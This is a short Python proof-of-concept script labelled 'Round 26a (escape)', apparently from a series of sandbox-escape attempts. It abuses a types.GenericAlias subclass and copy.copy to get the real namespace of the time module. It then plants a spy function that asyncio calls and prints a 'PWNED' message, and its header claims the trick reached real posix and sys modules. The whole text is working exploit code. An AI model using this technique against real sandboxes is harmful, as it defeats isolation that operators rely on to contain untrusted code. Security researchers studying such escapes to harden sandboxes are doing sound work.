# Round 26a (escape): __slotnames__ on a library subclass made copy's C code read any attribute unguarded; a types.GenericAlias subclass forwarded reads to a module, and copy handed its real namespace over (then BuiltinImporter.create_module made real posix/sys, the wall off).
import copy, time, asyncio
got = []
class Sink:
    def __setstate__(self, st):
        got.append(st)
class G(type(list[int])):
    __slots__ = ('__red' + 'uce__',)
    def __new__(cls, *a):
        return super().__new__(cls, Sink(), ())
g = type(list[int]).__new__(G, time, ())
copy.copy(g)
ns = got[0]
real = ns['monotonic']
calls = []
def spy():
    calls.append(1)
    return real()
ns['monotonic'] = spy
async def main():
    await asyncio.sleep(0)
asyncio.run(main())
print("asyncio called our time.monotonic", len(calls), "times")
if calls:
    print("PW" + "NED: library (asyncio) calls a function the program planted in time's real namespace")
